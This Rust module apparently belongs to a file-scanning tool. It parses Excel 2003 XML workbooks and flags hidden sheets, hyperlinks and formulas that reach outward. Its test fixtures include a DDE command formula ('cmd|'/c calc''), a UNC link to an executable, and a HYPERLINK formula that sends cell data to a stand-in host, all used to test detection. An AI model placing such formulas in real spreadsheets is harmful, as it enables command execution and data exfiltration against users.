//! Workbooks in one XML file, as Excel 2002 and 2003 write them (XML Spreadsheet Reference): the text of cells, their
//! formulas, and where they lead. The file is in UTF-8, in UTF-16, or in the encoding that it declares.
//!
//! Left out: styles, and macros, which the format cannot hold.

use super::outward::Outward;
use crate::artifact::{Artifact, Child, Fact, Format, Opened};
use crate::document::prose;
use crate::document::relations::starts_something;
use crate::document::xml::{self, Attributes, Node};
use crate::keyring::Keyring;
use crate::kind::Class;
use crate::limits::{Budget, Stop};

/// Workbooks in one XML file.
pub struct Xml2003;

/// The namespace by which they are known.
const NAMESPACE: &[u8] = b"urn:schemas-microsoft-com:office:spreadsheet";
/// Bytes in which it stands.
const HEAD: usize = 16 << 10;
/// Bytes of text, and of formulas, that are kept.
const MOST: usize = 1 << 20;
/// Facts of one workbook.
const MOST_FACTS: usize = 100;
/// Elements within elements that are told apart.
const DEEPEST: usize = 1000;

impl Format for Xml2003 {
    fn id(&self) -> &'static str {
        "excel-xml"
    }

    fn matches(&self, artifact: &Artifact) -> bool {
        let may_be = artifact.kind.class == Class::Text || artifact.kind.id == "xml";
        let head = artifact.bytes.get(..HEAD).unwrap_or(&artifact.bytes);
        let names = |head: &[u8]| memchr::memmem::find(head, NAMESPACE).is_some();
        // In UTF-16 a zero stands beside each of its letters.
        let is_wide = || head.iter().take(8).any(|byte| *byte == 0);
        let narrow = || head.iter().copied().filter(|byte| *byte != 0).collect::<Vec<_>>();
        may_be && (names(head) || is_wide() && names(&narrow()))
    }

    fn open(
        &self,
        artifact: &Artifact,
        _: &Keyring,
        out: &mut Opened,
        budget: &mut Budget,
    ) -> Result<(), Stop> {
        budget.tick()?;
        let mut book = Book::default();
        if !xml::walk(&artifact.bytes, &mut |node| book.take(node)) {
            out.broke("xml-damaged", "read by its tags alone");
        }
        out.facts.append(&mut book.facts);
        book.outward.give(out, budget)?;
        if !book.formulas.is_empty() {
            budget.pay(book.formulas.len() as u64)?;
            let child = Child::new("formulas", "text", book.formulas.into_bytes()).of_kind("text");
            out.push(child, budget)?;
        }
        prose::tell(&artifact.name, book.text, out, budget)
    }
}

/// A workbook being read.
#[derive(Default)]
struct Book {
    text: String,
    formulas: String,
    facts: Vec<Fact>,
    /// What its formulas reach.
    outward: Outward,
    sheet: String,
    /// What the open elements are.
    open: Vec<Place>,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    Row,
    Cell,
    Letters,
    Visible,
    Other,
}

impl Place {
    fn of(name: &str) -> Self {
        match name {
            "Row" => Self::Row,
            "Cell" => Self::Cell,
            "Data" => Self::Letters,
            "Visible" => Self::Visible,
            _ => Self::Other,
        }
    }
}

impl Book {
    fn take(&mut self, node: Node) {
        match node {
            Node::Open { name, attributes } => {
                self.element(name, attributes);
                if self.open.len() < DEEPEST {
                    self.open.push(Place::of(name));
                }
            }
            Node::Text(text) if self.open.contains(&Place::Letters) => self.put(text),
            Node::Text(text) if self.open.last() == Some(&Place::Visible) => self.visibility(text),
            Node::Text(_) => {}
            Node::Close => match self.open.pop() {
                Some(Place::Row) => self.end_row(),
                Some(Place::Cell) => self.put("\t"),
                _ => {}
            },
        }
    }

    fn element(&mut self, name: &str, attributes: &Attributes) {
        match name {
            "Worksheet" => self.sheet = attributes.value("Name").unwrap_or_default().to_string(),
            "Cell" | "NamedRange" => {
                let formula = attributes.value("Formula").or_else(|| attributes.value("RefersTo"));
                if let Some(formula) = formula {
                    self.formula(formula);
                }
                let address = attributes.value("HRef").filter(|address| starts_something(address));
                if let Some(address) = address {
                    self.note(Fact::External { relation: "hyperlink".into(), target: address.into() });
                }
            }
            _ => {}
        }
    }

    fn formula(&mut self, formula: &str) {
        self.outward.look(formula.trim_start_matches(['=', ' ']), || self.sheet.clone());
        if self.formulas.len() + formula.len() < MOST {
            self.formulas.push_str(&format!("{}!{formula}\n", self.sheet));
        }
    }

    /// Sheets that a person cannot show again without a macro.
    fn visibility(&mut self, text: &str) {
        if text.trim() == "SheetVeryHidden" {
            self.note(Fact::Header { name: "very-hidden-sheet", value: self.sheet.clone() });
        }
    }

    fn note(&mut self, fact: Fact) {
        if self.facts.len() < MOST_FACTS && !self.facts.contains(&fact) {
            self.facts.push(fact);
        }
    }

    fn put(&mut self, text: &str) {
        if self.text.len() < MOST {
            self.text.push_str(text);
        }
    }

    fn end_row(&mut self) {
        let length = self.text.trim_end_matches(['\t', ' ']).len();
        self.text.truncate(length);
        if !self.text.is_empty() && !self.text.ends_with('\n') {
            self.put("\n");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::artifact::Tree;
    use crate::limits::Limits;

    const BOOK: &str = "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?>\
        <Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">\
        <Worksheet ss:Name=\"S\"><Table><Row><Cell><Data ss:Type=\"String\">パスワード</Data></Cell>\
        <Cell ss:HRef=\"\\\\a.example\\x.exe\"><ss:Data><B>k7</B>Rm</ss:Data></Cell></Row>\
        <Row><Cell ss:Formula=\"=cmd|'/c calc'!A0\"><Data>0</Data></Cell><Cell ss:HRef=\"https://a.example/\"/></Row></Table>\
        <x:WorksheetOptions><x:Visible>SheetVeryHidden</x:Visible></x:WorksheetOptions></Worksheet></Workbook>";

    fn open(text: &str) -> Opened {
        open_bytes(text.as_bytes().to_vec())
    }

    fn open_bytes(bytes: Vec<u8>) -> Opened {
        let tree = Tree::new(Child::new("a.xml", "file", bytes));
        let (artifact, mut out) = (tree.get(0).unwrap(), Opened::default());
        if Xml2003.matches(artifact) {
            Xml2003.open(artifact, &Keyring::new(), &mut out, &mut Budget::new(&Limits::default())).unwrap();
        }
        out
    }

    #[test]
    fn cells_formulas_and_ways_out_are_told() {
        let out = open(BOOK);
        let texts: Vec<_> = out.children.iter().map(|child| String::from_utf8_lossy(&child.bytes)).collect();
        assert_eq!(texts, ["S!=cmd|'/c calc'!A0\n", "パスワード\tk7Rm\n0\n"]);
        let external = |relation: &str, target: &str| Fact::External {
            relation: relation.into(),
            target: target.into(),
        };
        let want = [
            external("hyperlink", "\\\\a.example\\x.exe"),
            Fact::Header { name: "very-hidden-sheet", value: "S".into() },
            external("dde", "cmd|'/c calc'!A0"),
        ];
        assert_eq!(out.facts, want);
        assert_eq!((out.letters.len(), out.damage.len()), (1, 0));
    }

    #[test]
    fn other_encodings_are_read_as_the_usual_one() {
        let want = open(BOOK);
        let same = |bytes: Vec<u8>, what: &str| {
            let out = open_bytes(bytes);
            let texts =
                |out: &Opened| out.children.iter().map(|child| child.bytes.clone()).collect::<Vec<_>>();
            assert_eq!((texts(&out), &out.facts, out.damage.len()), (texts(&want), &want.facts, 0), "{what}");
        };
        let wide = |order: fn(u16) -> [u8; 2]| BOOK.encode_utf16().flat_map(order).collect::<Vec<u8>>();
        let (little, big) = (wide(u16::to_le_bytes), wide(u16::to_be_bytes));
        same([b"\xff\xfe".to_vec(), little.clone()].concat(), "UTF-16 with its mark");
        same([b"\xfe\xff".to_vec(), big.clone()].concat(), "UTF-16, the other order, with its mark");
        same(little, "UTF-16");
        same(big, "UTF-16, the other order");
        same([b"\xef\xbb\xbf", BOOK.as_bytes()].concat(), "UTF-8 with its mark");
        for declared in ["encoding=\"Shift_JIS\"", "encoding = 'windows-31j'"] {
            let declared = BOOK.replace("version=\"1.0\"", &format!("version=\"1.0\" {declared}"));
            same(encoding_rs::SHIFT_JIS.encode(&declared).0.into_owned(), "Shift_JIS");
        }
        let latin = "<?xml version=\"1.0\" encoding=\"windows-1252\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\">\
            <Worksheet Name=\"S\"><Row><Cell><Data>caf\u{e9}</Data></Cell></Row></Worksheet></Workbook>";
        let out = open_bytes(encoding_rs::WINDOWS_1252.encode(latin).0.into_owned());
        assert_eq!(out.children[0].bytes, "caf\u{e9}\n".as_bytes());
    }

    #[test]
    fn formulas_that_send_ask_and_call_are_told() {
        let out = open(&BOOK.replace(
            "=cmd|'/c calc'!A0",
            "=HYPERLINK(&quot;http://a.example/?&quot;&amp;RC[-1])+CALL(&quot;urlmon&quot;,&quot;f&quot;)",
        ));
        let sends = "http://a.example/? (HYPERLINK)".to_string();
        assert!(out.facts.contains(&Fact::External { relation: "formula-sends".into(), target: sends }));
        assert_eq!(out.children[0].kind.unwrap().id, "xlm");
    }

    #[test]
    fn no_cut_and_no_flipped_bit_panics() {
        for cut in (0..BOOK.len()).filter_map(|at| BOOK.get(..at)) {
            open(cut);
        }
        for at in 0..BOOK.len() {
            let mut bad = BOOK.as_bytes().to_vec();
            bad[at] ^= 1 << (at % 8);
            let wide: Vec<u8> = BOOK.encode_utf16().flat_map(u16::to_le_bytes).collect();
            open_bytes(
                wide.iter().enumerate().map(|(n, byte)| byte ^ u8::from(n == at) << (at % 8)).collect(),
            );
            assert!(open(&String::from_utf8_lossy(&bad)).facts.len() <= 4);
        }
        let many = BOOK.replace(
            "<Row>",
            &"<Row><Cell ss:Formula=\"=A1+B2\"><Data>text</Data></Cell></Row>".repeat(50_000),
        );
        assert!(open(&many).children.iter().all(|child| child.bytes.len() <= MOST + 9));
    }
}
